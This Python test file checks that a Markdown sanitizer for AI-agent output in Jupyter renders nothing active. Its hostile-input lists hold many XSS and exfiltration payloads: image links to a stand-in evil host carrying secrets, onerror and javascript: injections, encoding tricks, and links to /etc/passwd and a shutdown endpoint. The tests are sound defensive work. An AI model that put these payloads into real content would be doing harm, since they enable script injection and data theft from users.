"""Agent Markdown made inert, checked in what real renderers make of it."""

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from nbconvert.filters import markdown2html

from jupyter_agent_host.rendering.markdown_sanitizer import MAX_PARSED_CHARS, make_inert

IMAGE = "data:image/png;base64,iVBORw0KGgo="
_TAGS = set(re.findall(r"[a-z0-9]+", "p h1 h2 h3 h4 h5 h6 em strong del s code pre blockquote ul ol li hr br"))
_TAGS |= {"table", "thead", "tbody", "tr", "th", "td", "a", "img", "span", "div"}
_ATTRIBUTES = {
    "a": {"href", "class"},
    "img": {"src", "alt"},
    "code": {"class"},
    "pre": {"class"},
    "span": {"class"},
    "div": {"class"},
    "th": {"style"},
    "td": {"style"},
    "ol": {"start"},
    **{f"h{n}": {"id"} for n in range(1, 7)},
}


class Audit(HTMLParser):
    """Collects what a page would do with this HTML that it must not."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.links: list[tuple[str, str]] = []
        self.text = ""
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _TAGS:
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            self._attribute(tag, name, value or "")
        if tag == "a":
            self._open.append(dict(attrs).get("href") or "")
            self.links.append((self._open[-1], ""))

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name not in _ATTRIBUTES.get(tag, set()):
            self.bad.append(f"{tag}[{name}]")
        if name == "src" and not re.fullmatch(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+", value):
            self.bad.append(f"{tag}[src={value}]")
        if name == "style" and not re.fullmatch(r"text-align: ?(left|right|center);?", value):
            self.bad.append(f"{tag}[style={value}]")
        if name == "href" and not _harmless(value):
            self.bad.append(f"{tag}[href={value}]")

    def handle_endtag(self, tag: str) -> None:
        if tag == "a" and self._open:
            self._open.pop()

    def handle_data(self, data: str) -> None:
        self.text += data
        if self._open:
            href, words = self.links[-1]
            self.links[-1] = (href, words + data)

    def handle_comment(self, data: str) -> None:
        self.bad.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.bad.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.bad.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.bad.append(f"<![{data}]>")


def _harmless(href: str) -> bool:
    if href.startswith("#"):
        return True  # the anchors that nbconvert gives headings
    try:
        parts = urlsplit(href)
    except ValueError:
        return False
    if parts.scheme in {"http", "https"}:
        return bool(parts.hostname) and "@" not in parts.netloc
    if parts.scheme == "mailto":
        return True
    return not parts.scheme and not parts.netloc and not href.startswith("/") and ".." not in href


_strict = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def rendered(inert: str) -> dict[str, str]:
    return {"markdown-it": _strict.render(inert), "nbconvert": str(markdown2html(inert))}


def audit(markdown: str) -> dict[str, Audit]:
    audits: dict[str, Audit] = {}
    for name, html in rendered(make_inert(markdown)).items():
        audits[name] = Audit()
        audits[name].feed(html)
        audits[name].close()
        assert not audits[name].bad, (name, html)
    return audits


HOSTILE = [
    "![x](http://evil.test/?secret)",
    "![x](//evil.test/?secret)",
    "![x](/logout)",
    "![x](plot.png)",
    "![x][ref]\n\n[ref]: http://evil.test/",
    "![ref]\n\n[ref]: http://evil.test/ 'title'",
    "![a ![b](http://evil.test/b)](http://evil.test/a)",
    "[![a](http://evil.test/a)](http://evil.test/b)",
    "![x](<http://evil.test/ a>)",
    "![x](data:text/html;base64,AAAA)",
    "![x](data:image/svg+xml;base64,AAAA)",
    '![a" onerror="alert(1)](' + IMAGE + ")",
    f'![a]({IMAGE} "t\\" onerror=alert(1)")',
    "!\\[x](http://evil.test/)",
    "&#33;[x](http://evil.test/)",
    "!&#91;x](http://evil.test/)",
    "Wow![a](https://evil.test/)",
    "Wow! [a](https://evil.test/)",
    "\\![a](https://evil.test/)",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=http://evil.test/>",
    "<video src=http://evil.test/ autoplay></video>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<iframe src=http://evil.test/></iframe>",
    "<link rel=stylesheet href=http://evil.test/>",
    "<style>@import url(http://evil.test/)</style>",
    "<!-- x --><img src=x>",
    "<!-- \n\n<img src=x onerror=alert(1)>\n\n-->",
    "<![CDATA[<img src=x>]]>",
    "<?php <img src=x> ?>",
    "<details><summary>x</summary><img src=x></details>",
    "</details><img src=x>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;img src=x&amp;gt;",
    "&#60;img src=x&#62;",
    "&lt img src=x&gt",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:x) [y](data:text/html,<script>alert(1)</script>) [z](file:///etc/passwd)",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](http://good.test@evil.test/)",
    "[x](https:evil.test) [y](https:/evil.test) [z](https:\\\\evil.test)",
    "[x](//evil.test) [y](\\\\evil.test) [z](/api/shutdown)",
    "[x](..%2f..%2fapi/shutdown) [y](../api) [z](%2e%2e/api)",
    '[x](http://a.test/"onmouseover="alert(1))',
    "[x](http://a.test/ 'onmouseover=alert(1)')",
    "`<img src=x>` and ``` <b> ```",
    "`` ` `` <img src=x>",
    "`unclosed <img src=x onerror=alert(1)>",
    "```\n<img src=x>\n```",
    "```\n<img src=x>",
    "````\n```\n<img src=x>\n````",
    '```js" onload="alert(1)\nx\n```',
    "```{image} http://evil.test/\n```",
    "```mermaid\ngraph\n```",
    "~~~\n```\n~~~\n<img src=x>",
    "    <img src=x>",
    "- a\n\n      <img src=x>",
    "1. ```\n   <img src=x>\n   ```\n<img src=x>",
    "> ```\n<img src=x>",
    "| a |\n|---|\n| <img src=x> `|` <img src=y> |",
    "| `a | b` |\n|---|\n| ![x](http://evil.test/) |",
    "a\n---\n<img src=x>",
    "$<img src=x onerror=alert(1)>$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "$$\n~~~\n$$\n\n```\n~~~\n<img src=x>\n```",
    "$$\n![x](http://evil.test/)\n$$",
    "$![x](http://evil.test/)$ $[x]: y$",
    "\\(<img src=x>\\) \\[<img src=x>\\]",
    '$x" onerror=alert(1) y$ https://a.test/$x" onmouseover=alert(1) "$',
    "\\href{javascript:alert(1)}{x} $\\href{javascript:alert(1)}{x}$",
    "$\\style{background:url(http://evil.test/)}{x}$ $\\csname href\\endcsname{x}$",
    "\\begin{x}<img src=x>\\end{x}",
    "costs $5 and ![x](http://evil.test/) $6",
    "a\u202eb\u2066c\x00d\x1b[31m\x07",
    "@@0@@ $a$ @@1@@",
    "[^1]: http://evil.test/\n\n[^1]",
    "[[x]](http://evil.test/) [a[b]c](http://evil.test/)",
    "*[x](http://evil.test/*)*",
    "<http://evil.test/><img src=x>",
    "http://evil.test/<img src=x>",
    "www.evil.test/`<img src=x>`",
    "$www.evil.test$`<img src=x>$`",
    "# <img src=x> {onclick=alert(1)}",
    "*" * 500 + "a" + "*" * 500,
    "[" * 500 + "a" + "](x)" * 500,
    "> " * 100 + "<img src=x>",
    "- " * 100 + "<img src=x>",
    "a\r\n<img src=x>\r\n\r\n    b\u2028<img src=x>",
    "\ud800<img src=x>",
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_hostile_markdown_does_nothing(markdown: str) -> None:
    audit(markdown)


@pytest.mark.parametrize(
    "markdown", [m for m in HOSTILE if "evil.test" in m and re.search(r"\]\(|\]\[|\[ref\]", m) and "`" not in m]
)
def test_where_a_link_goes_can_be_read(markdown: str) -> None:
    for found in audit(markdown).values():
        for href, words in found.links:
            host = urlsplit(href).hostname
            assert not host or host in found.text, (href, words)


def test_a_lying_link_shows_its_host() -> None:
    for found in audit("[https://good.test/](https://evil.test/a) [good.test](http://good.test.evil.test/)").values():
        assert "(evil.test)" in found.text
        assert "(good.test.evil.test)" in found.text


PLAIN = [
    ("# A *b* `c`", "# A *b* `c`"),
    ("**bold** and ~~gone~~", "**bold** and ~~gone~~"),
    ("- a\n- b\n  - c", "- a\n- b\n  - c"),
    ("3. a\n4. b", "3. a\n4. b"),
    ("> quote", "> quote"),
    ("```python\nx = '<b>'\n```", "```python\nx = '<b>'\n```"),
    ("`a<b>`", "`a<b>`"),
    ("a<br>b", "a&lt;br>b"),
    ("AT&T &copy;", "AT&T ©"),
    (f"![plot]({IMAGE})", f"![plot]({IMAGE})"),
    ("[a](answer.txt)", "[a](<answer.txt>)"),
    ("[a](https://x.test/)", "[a](<https://x.test/>) (x.test)"),
    ("<https://x.test/>", "<https://x.test/>"),
    ("see https://x.test/a_b.", "see <https://x.test/a_b>."),
    ("$x_1 + y^2$ is fine", "$x_1 + y^2$ is fine"),
    ("\\(a\\) is fine", "$a$ is fine"),
    ("$$\n\\frac{a}{b}\n$$", "$$\n\\frac{a}{b}\n$$"),
    ("it costs $5", "it costs \\$5"),
    ("line one\nline two", "line one\nline two"),
    ("| a | b |\n|:--|--:|\n| 1 | `x\\|y` |", "| a | b |\n| :--- | ---: |\n| 1 | `x\\|y` |"),
    ("", ""),
]


@pytest.mark.parametrize(("markdown", "inert"), PLAIN)
def test_ordinary_markdown_reads_the_same(markdown: str, inert: str) -> None:
    assert make_inert(markdown) == inert


def test_code_is_untouched_to_the_letter() -> None:
    code = "def f(x):\n    return `x` <img> & $1 ![a](b) \\frac{a}{b}\n\n\t# tab"
    html = _strict.render(make_inert(f"```py\n{code}\n```"))
    found = Audit()
    found.feed(html)
    assert found.text.strip("\n") == code


def test_prices_are_not_formulas() -> None:
    assert "$" not in make_inert("I had $5, spent $3, and $2 are left.")


def test_too_long_a_text_is_one_block_of_code() -> None:
    inert = make_inert("<img src=x>\n```\n" * (MAX_PARSED_CHARS // 10))
    assert inert.startswith("````\n<img")
    assert inert.endswith("\n````")


FRAGMENTS = [
    *"`*_~[]()<>!#-+=|\\$&:;\"'/\n\n  \t@%{}^.0aA",
    "\n\n", "```", "~~~", "    ", "![", "](", "](http://evil.test/", ")", "http://evil.test/",
    "https://", "www.evil.test",
    "<img src=x onerror=alert(1)>", "<!--", "-->", "</details>", "<details>", "javascript:alert(1)", "&lt;", "&#60;",
    "&#10;", "&excl;", "&lsqb;", "&bsol;", "&grave;", "$$", "\\(", "\\)", "\\[", "\\]", "\\begin{a}", "\\end{a}",
    "@@0@@",
    "> ", "- ", "1. ", "| a | b |\n", "|---|---|\n", "[ref]: http://evil.test/\n", "[ref]", f"![d]({IMAGE})", "\u2028",
    '" onmouseover="alert(1)', "\\href{javascript:1}{x}", "***", "===\n", "---\n", "\x00", "\u202e",
]  # fmt: skip


def documents() -> st.SearchStrategy[str]:
    return st.lists(st.sampled_from(FRAGMENTS), max_size=25).map("".join)


@settings(max_examples=400, deadline=None)
@given(documents())
def test_no_combination_of_hostile_pieces_does_anything(markdown: str) -> None:
    audit(markdown)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=80))
def test_any_text_at_all_is_inert(markdown: str) -> None:
    audit(markdown)


@settings(max_examples=150, deadline=None)
@given(documents())
def test_no_formula_delimiter_reaches_an_attribute(markdown: str) -> None:
    """JupyterLab puts formulas back into finished HTML with their quotes as they were."""
    for attribute in _attributes(_strict.render(make_inert(markdown))):
        assert "$" not in attribute
        assert "\\" not in attribute


def _attributes(html: str) -> Iterator[str]:
    class Values(HTMLParser):
        found: list[str]

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.found += [value or "" for _, value in attrs]

    parser = Values()
    parser.found = []
    parser.feed(html)
    yield from parser.found
